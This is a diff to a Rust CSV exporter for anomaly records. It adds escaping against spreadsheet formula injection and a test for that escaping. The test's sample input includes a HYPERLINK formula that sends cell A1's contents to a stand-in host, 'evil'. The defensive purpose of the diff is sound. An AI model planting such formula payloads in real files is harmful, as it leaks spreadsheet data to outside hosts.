@@ -27,10 +27,33 @@ pub(super) fn csv_header<W: Write>(out: &mut W) -> Result<(), ExportError> {
 pub(super) fn csv_rows<W: Write>(out: &mut W, records: &[AnomalyRecord]) -> Result<(), ExportError> {
     let mut writer = csv::WriterBuilder::new().has_headers(false).from_writer(out);
     for record in records {
-        writer.serialize(record)?;
+        writer.serialize(spreadsheet_safe(record))?;
     }
     writer.flush()?;
     Ok(())
+}
+
+/// A CSV export is opened in spreadsheets, which run a cell that starts
+/// with `=`, `+`, `-` or `@` as a formula; sources, reasons and labels come
+/// from devices and agents, so such a text cell gets a leading `'`, which
+/// spreadsheets show as text (OWASP's advice for CSV injection). Numbers
+/// are written as they are; JSON Lines and Parquet are never changed.
+fn spreadsheet_safe(record: &AnomalyRecord) -> AnomalyRecord {
+    let safe = |text: &str| -> String {
+        if text.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{text}") } else { text.to_string() }
+    };
+    AnomalyRecord {
+        agent: safe(&record.agent),
+        agent_sha256: safe(&record.agent_sha256),
+        log_type: safe(&record.log_type),
+        source: safe(&record.source),
+        label: safe(&record.label),
+        severity: safe(&record.severity),
+        reason: safe(&record.reason),
+        model: record.model.as_deref().map(safe),
+        entry_fields: record.entry_fields.as_deref().map(safe),
+        ..record.clone()
+    }
 }
 
 #[cfg(test)]
@@ -79,6 +102,25 @@ mod tests {
         let row = reader.records().next().transpose()?.unwrap_or_default();
         assert_eq!(row.get(5), Some("resolver, \"east\""));
         assert_eq!(row.get(10), Some("line\nbreak"));
+        Ok(())
+    }
+
+    #[test]
+    fn a_cell_a_spreadsheet_would_run_is_written_as_text() -> Result<(), ExportError> {
+        let hostile = AnomalyRecord {
+            source: "=HYPERLINK(\"http://evil/?\"&A1,\"click\")".into(),
+            reason: "-2+3".into(),
+            label: "@SUM(A1)".into(),
+            ..sample()
+        };
+        let mut file = Vec::new();
+        csv_rows(&mut file, &[hostile])?;
+        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(file.as_slice());
+        let row = reader.records().next().transpose()?.unwrap_or_default();
+        assert_eq!(row.get(5), Some("'=HYPERLINK(\"http://evil/?\"&A1,\"click\")"));
+        assert_eq!(row.get(10), Some("'-2+3"));
+        assert_eq!(row.get(8), Some("'@SUM(A1)"));
+        assert_eq!(row.get(0), Some("7"), "numbers stay numbers");
         Ok(())
     }
 }
